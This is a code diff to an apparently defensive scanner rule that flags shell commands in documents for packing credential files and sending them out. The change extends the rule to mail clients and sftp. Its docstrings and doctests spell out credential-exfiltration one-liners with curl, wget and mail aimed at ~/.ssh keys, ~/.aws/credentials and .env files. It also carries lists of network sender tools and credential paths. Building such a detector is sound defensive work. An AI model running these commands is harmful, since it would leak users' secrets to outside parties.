@@ -12,7 +12,10 @@ command (``curl -d @~/.aws/credentials``). Thieves just as often pass the secret
 * through a variable that holds a whole credential file, read directly or in a loop over
   credential paths: ``E=$(cat .env)`` or ``for k in ~/.ssh/id_*; do K="$K$(cat "$k")"; done``,
   then ``echo "$K" | wget --post-file=- …``, also when it is first copied into another
-  variable (a JSON report built from it).
+  variable (a JSON report built from it);
+* by mail: a mail client (``mail``, ``mutt``, ``sendmail`` ...) given a credential file as an
+  attachment or as its standard input (``mail -A ~/.ssh/id_rsa``, ``mail -s x a@b < .env``);
+  mail is no deployment channel, so the project's ``.env`` counts as well as home secrets.
 
 Documented commands are one session: :func:`documented_session` joins the shell fences of
 a document, so a file staged in one fence and sent from the next is seen too.
@@ -37,6 +40,7 @@ from .normalise_shell import shell_words
 
 RULE_ID = "shell.credential-staging"
 PIPED_OUT = "packs or reads credentials and pipes them to a network command"
+MAILED = "mails a credential file (as an attachment or as the message's input)"
 
 _CREDENTIAL = re.compile(
     r"(?:^|[/=@])(?:\.ssh|\.aws|\.netrc|\.git-credentials|\.docker|\.kube|\.gnupg|\.env"
@@ -45,7 +49,13 @@ _CREDENTIAL = re.compile(
 )
 _EXCLUDE_FLAGS = frozenset({"--exclude", "-x", "--exclude-from", "-X"})
 _ENV_DUMPS = frozenset({"env", "printenv"})
-_SENDERS = frozenset({"curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "scp", "rsync"})
+_MAILERS = frozenset(
+    {"mail", "mailx", "s-nail", "sendmail", "mutt", "msmtp", "ssmtp", "swaks", "sendemail"}
+)
+"""Mail clients: a file given as an attachment or on standard input leaves in the message."""
+_SENDERS = frozenset(
+    {"curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "scp", "rsync", "sftp"} | _MAILERS
+)
 _PREFIXES = frozenset({"sudo", "command", "exec", "nohup", "time"})
 _SEPARATORS = frozenset({"&&", "||", ";", "&", "\n"})
 _NOT_READING = frozenset(
@@ -57,7 +67,11 @@ _CREDENTIAL_HINT = re.compile(
     r"ssh|aws|netrc|credential|env|gnupg|kube|docker|id_(?:rsa|ed25519|ecdsa)|npmrc|pypirc", re.I
 )
 """A literal every credential word and environment dump holds: lines without one are skipped."""
-_SENDER_HINT = re.compile(r"curl|wget|\bnc\b|ncat|netcat|socat|telnet|scp|rsync", re.I)
+_SENDER_HINT = re.compile(
+    r"curl|wget|\bnc\b|ncat|netcat|socat|telnet|scp|rsync|sftp|\bmail|s-nail|sendmail|mutt|msmtp"
+    r"|ssmtp|swaks|sendemail",
+    re.I,
+)
 """A literal every network program in ``_SENDERS`` holds."""
 
 
@@ -367,7 +381,21 @@ def _pipes_out(stages: list[list[str]]) -> bool:
     return any(
         _reads_credentials(stage) and any(_sends(later) for later in stages[index + 1 :])
         for index, stage in enumerate(stages[:-1])
-    )
+    ) or any(_mails_credentials(stage) for stage in stages)
+
+
+def _mails_credentials(stage: list[str]) -> bool:
+    """A mail client given a credential file: an attachment, an argument or its input.
+
+    >>> _mails_credentials(["mail", "-s", "k", "a@x.invalid", "<", "~/.aws/credentials"])
+    True
+    >>> _mails_credentials(["mail", "-s", "report", "a@x.invalid", "<", "report.txt"])
+    False
+    """
+    if _verb(stage) not in _MAILERS:
+        return False
+    fed = [w for before, w in zip(stage, stage[1:], strict=False) if before == "<"]
+    return _reads_credentials(stage) or any(_names_credential(w) for w in fed)
 
 
 def may_pipe_credentials(text: str | FoldedText) -> bool:
@@ -424,7 +452,10 @@ def credential_staging(path: str, text: str) -> list[ThreatFinding]:
             continue
         for stages in _commands(line):
             if _pipes_out(stages):
-                findings.append(staging_finding(path, lines, number))
+                mailed = any(_mails_credentials(s) for s in stages)
+                findings.append(
+                    staging_finding(path, lines, number, MAILED if mailed else PIPED_OUT)
+                )
                 continue
             carried = [
                 v
